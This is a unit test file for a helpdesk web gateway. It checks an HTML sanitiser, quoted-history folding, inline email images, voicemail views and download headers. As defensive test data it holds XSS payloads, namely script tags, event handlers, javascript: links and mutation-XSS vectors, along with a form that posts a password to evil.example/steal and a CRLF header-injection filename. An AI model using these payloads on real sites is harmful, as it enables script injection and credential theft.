"""Unit tests of what the ticket page makes of customer content (gateway/web/thread.py and
gateway/web/attachments.py): folded history, the sanitiser, inline images, voicemails and the
download headers. Pure functions: no server, no browser."""

from __future__ import annotations

from datetime import UTC, datetime
from email.message import EmailMessage
from html.parser import HTMLParser
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.store.content import StoredAttachment
from gateway.store.records import Message
from gateway.store.voice import Voicemail
from gateway.web.attachments import content_disposition, size_text
from gateway.web.thread import (
    ALLOWED_TAGS,
    html_part,
    inline_image,
    sanitise_html,
    show_thread,
    shown_text,
    voicemail_view,
    web_url,
)

AT = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 16


def message(
    body: str, latest: str, *, id: int = 1, channel: str = "email", direction: str = "in"
) -> Message:
    return Message(
        id=id,
        ticket_id=1,
        direction=direction,
        channel=channel,
        message_id=None,
        sender="pat@example.com",
        subject="s",
        body_text=body,
        latest_text=latest,
        meta={},
        created_at=AT,
    )


def voicemail(state: str = "pending", url: str | None = "https://api.twilio.com/RE1") -> Voicemail:
    return Voicemail(
        id=1,
        recording_sid="RE1",
        call_sid="CA1",
        ticket_id=1,
        message_id=1,
        caller="+15550100",
        desk="+15550199",
        recording_url=url,
        duration=42,
        recording_status="completed",
        transcript_state=state,
        transcript_due_at=AT,
        created_at=AT,
        settled_at=None,
    )


def no_inline(cid: str) -> str | None:
    return None


def test_quoted_history_is_folded_behind_the_new_text() -> None:
    body = "Still broken.\n\nOn Mon, Pat wrote:\n> Phones are down\n\n-- \nPat\nACME"
    shown = shown_text(message(body, "Still broken."))
    assert shown.new == "Still broken."
    assert shown.whole == body
    assert shown.folded_lines == body.count("\n") + 1


def test_nothing_is_folded_when_nothing_was_taken_off() -> None:
    shown = shown_text(message("Just this.\n", "Just this."))
    assert (shown.new, shown.whole) == ("Just this.", None)
    # A message whose latest text is empty (a voicemail before its transcript) shows its body.
    assert shown_text(message("All of it", "")).new == "All of it"


HOSTILE = """<html><head><style>p{background:url(http://127.0.0.1:1/css)}</style>
<script>alert("script")</script><base href="http://evil.example/"></head>
<body onload="alert('onload')"><p style="position:fixed" class="x" id="y" onclick="alert(2)">Hi</p>
<img src=x onerror="alert('onerror')">
<img src="http://127.0.0.1:1/pixel.gif?u=pat" alt="logo">
<form action="http://evil.example/steal" method="post"><input name="pw"><button>Go</button></form>
<a href="javascript:alert('js')">click</a> <a href="/logout">out</a>
<a href="https://example.com/help?a=1&amp;b=2">help</a>
<iframe src="http://evil.example/"></iframe><object data="x.swf"></object>
<svg><script>alert(5)</script></svg><math><mi>x</mi></math>
<table background="http://evil.example/bg.png"><tr><td>cell</td></tr></table>
<meta http-equiv="refresh" content="0;url=http://evil.example/"><link rel=stylesheet href=http://evil.example/s.css>
</body></html>"""


def test_sanitiser_keeps_text_and_drops_everything_that_runs_loads_or_submits() -> None:
    out = str(sanitise_html(HOSTILE, no_inline)).lower()
    for gone in (
        "<script",
        "<style",
        "alert(",
        "onerror",
        "onload",
        "onclick",
        "<form",
        "<input",
        "<iframe",
        "<object",
        "<svg",
        "<base",
        "<meta",
        "<link",
        "javascript:",
        'href="/logout"',
        "style=",
        'class="x"',
        "background",
        "127.0.0.1:1/pixel",
        "evil.example",
    ):
        assert gone not in out, gone
    assert "<p>hi</p>" in out
    assert "<td>cell</td>" in out
    assert "[remote image blocked (127.0.0.1): logo]" in out
    assert "[image not shown]" in out  # the relative src=x
    assert (
        '<a href="https://example.com/help?a=1&amp;b=2" target="_blank"'
        ' rel="noopener noreferrer nofollow">help</a>'
    ) in out
    assert "<img" not in out


def test_inline_cid_image_is_pointed_at_our_route_and_others_are_not_shown() -> None:
    source = (
        '<img src="cid:logo@acme" alt="Logo" width="20" onerror="x()">'
        '<img src="cid:missing@acme" alt="gone">'
        '<img src="data:image/png;base64,AAAA">'
    )
    out = str(sanitise_html(source, lambda cid: "/inline/3" if cid == "logo@acme" else None))
    assert '<img src="/inline/3" alt="Logo" width="20">' in out
    assert "[image not shown: gone]" in out
    assert out.count("<img") == 1 and "data:" not in out


def test_an_alt_text_cannot_break_out_of_the_placeholder() -> None:
    out = str(
        sanitise_html('<img src="https://t.example/a" alt="x&quot;><script>1</script>">', no_inline)
    )
    assert "<script" not in out
    assert "&lt;script&gt;" in out


def mail_with_inline_image() -> bytes:
    mail = EmailMessage()
    mail["From"] = "pat@example.com"
    mail["To"] = "support@localhost"
    mail["Subject"] = "logo"
    mail.set_content("text version")
    mail.add_alternative(
        '<p>See <img src="cid:logo@acme"> <img src="cid:vector@acme"></p>', subtype="html"
    )
    html = mail.get_payload()[1]
    html.add_related(PNG, "image", "png", cid="<logo@acme>")
    html.add_related(b"<svg onload='alert(1)'/>", "image", "svg+xml", cid="<vector@acme>")
    return mail.as_bytes()


def test_html_part_and_inline_images_of_a_raw_mail() -> None:
    raw = mail_with_inline_image()
    part = html_part(raw)
    assert part.html is not None and "cid:logo@acme" in part.html
    assert set(part.inline) == {"logo@acme"}  # SVG is never an inline image
    assert inline_image(raw, part.inline["logo@acme"]) == ("image/png", PNG)
    assert inline_image(raw, 0) is None  # the multipart container, not an image
    assert inline_image(raw, 999) is None


def test_show_thread_parses_html_only_when_asked() -> None:
    raw = mail_with_inline_image()
    m = message("text version", "text version", id=7)
    [text_view] = show_thread(1001, [m], [], {}, None)
    assert text_view.html is None and not text_view.html_missing
    [html_view] = show_thread(1001, [m], [], {}, {7: raw})
    assert html_view.html is not None
    assert '<img src="/tickets/1001/messages/7/inline/' in str(html_view.html)
    assert "[image not shown]" in str(html_view.html)  # the SVG one
    [plain] = show_thread(1001, [message("x", "x", id=8)], [], {}, {})
    assert plain.html is None and plain.html_missing


def test_attachments_go_with_their_message() -> None:
    a = StoredAttachment(
        id=5, message_id=2, filename="a.pdf", content_type="application/pdf", size=10, stored=True
    )
    first, second = show_thread(
        1001, [message("x", "x", id=1), message("y", "y", id=2)], [a], {}, None
    )
    assert list(first.attachments) == [] and list(second.attachments) == [a]


@pytest.mark.parametrize(
    ("state", "transcript", "expected"),
    [
        ("pending", "", ("pending", "Transcription pending.")),
        ("failed", "", ("failed", "Transcription failed.")),
        ("timed-out", "", ("failed", "Transcription failed: none arrived in time.")),
        ("none", "", ("none", "No transcription: there was no recording to transcribe.")),
        ("received", "Our PBX is down", ("received", "")),
    ],
)
def test_voicemail_says_where_its_transcript_is(
    state: str, transcript: str, expected: tuple[str, str]
) -> None:
    view = voicemail_view(voicemail(state), transcript)
    assert (view.state, view.status_text) == expected
    assert view.recording_url == "https://api.twilio.com/RE1"
    assert view.duration == 42


def test_only_web_urls_become_recording_links() -> None:
    assert voicemail_view(voicemail(url="javascript:alert(1)"), "").recording_url is None
    assert web_url(None) is None
    assert web_url("//evil.example/x") is None
    assert web_url("http://[bad") is None
    assert web_url(" https://api.twilio.com/x ") == "https://api.twilio.com/x"


def test_content_disposition_is_rfc_6266_with_a_sanitised_name() -> None:
    assert content_disposition("report.pdf") == (
        "attachment; filename=\"report.pdf\"; filename*=UTF-8''report.pdf"
    )
    header = content_disposition('..\\..\\évil "name";\r\nX-Injected: 1.html')
    assert "\r" not in header and "\n" not in header
    fallback = header.split('filename="')[1].split('"')[0]
    assert fallback.isascii() and '"' not in fallback and "\\" not in fallback
    encoded = header.split("filename*=UTF-8''")[1]
    assert ";" not in encoded and " " not in encoded
    name = unquote(encoded)
    assert "/" not in name and "\\" not in name and name.startswith("évil")
    assert content_disposition("") == (
        "attachment; filename=\"attachment\"; filename*=UTF-8''attachment"
    )


def test_sizes_read_like_a_file_manager() -> None:
    assert [size_text(n) for n in (1, 900, 2048, 5 * 1024 * 1024)] == [
        "1 byte",
        "900 bytes",
        "2.0 KiB",
        "5.0 MiB",
    ]


def test_quoted_history_in_html_is_folded_too() -> None:
    source = (
        "<div>Still broken.</div><div class=gmail_quote>On Mon, Pat wrote:"
        "<blockquote type=cite>Restart it <blockquote>older</blockquote> please</blockquote>"
        "</div><blockquote>second</blockquote>"
    )
    out = str(sanitise_html(source, no_inline))
    assert out == (
        "<div>Still broken.</div><div>On Mon, Pat wrote:"
        '<details class="history"><summary>Show the quoted history</summary>'
        "<blockquote>Restart it <blockquote>older</blockquote> please</blockquote></details></div>"
        '<details class="history"><summary>Show the quoted history</summary>'
        "<blockquote>second</blockquote></details>"
    )
    # Text that looks like the tag is text (escaped), and folds nothing.
    assert "<details" not in str(sanitise_html("&lt;blockquote&gt; not a quote", no_inline))


def test_an_mms_lists_its_media_as_links_only() -> None:
    text = message("see photo", "see photo", channel="sms")
    meta = {
        "NumMedia": "3",
        "MediaUrl1": "https://api.twilio.com/M/2",
        "MediaUrl0": "https://api.twilio.com/M/1",
        "MediaUrl2": "javascript:alert(1)",
        "To": "+15550100",
    }
    text = Message(**{**{f: getattr(text, f) for f in text.__slots__}, "meta": meta})
    [shown] = show_thread(1001, [text], [], {}, None)
    assert shown.media == ("https://api.twilio.com/M/1", "https://api.twilio.com/M/2")
    assert show_thread(1001, [message("x", "x")], [], {}, None)[0].media == ()


_PIECES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://t.example/p.gif">',
    '<img src="cid:logo">',
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">',
    '<a href="JaVaScRiPt:alert(1)">',
    '<a href=" java\tscript:alert(1)">',
    '<a href="https://ok.example/">',
    "</a>",
    "<style>*{}</style>",
    '<div style="background:url(https://t.example/)">',
    "</div>",
    "<form action=https://t.example/><button>Go</button></form>",
    "<iframe src=https://t.example/></iframe>",
    "<blockquote>",
    "</blockquote>",
    "<!--",
    "-->",
    "<",
    ">",
    '"',
    "'",
    "&",
    "<p title='\"><script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "text",
]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=12))
def test_no_combination_of_hostile_pieces_gets_through(pieces: list[str]) -> None:
    out = str(sanitise_html("".join(pieces), lambda cid: "/ours/1" if cid == "logo" else None))
    assert "<script" not in out.lower() and "<style" not in out.lower()  # text is escaped
    parser = _Tags()
    parser.feed(out)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag in ALLOWED_TAGS | {"details", "summary"}, tag
        assert not any(name.startswith("on") or name == "style" for name in attrs), attrs
        if tag == "img":
            assert attrs == {"src": "/ours/1"}
        if tag == "a" and "href" in attrs:
            assert attrs["href"] == "https://ok.example/"
        if tag == "span":
            assert attrs == {"class": "blocked-image"}
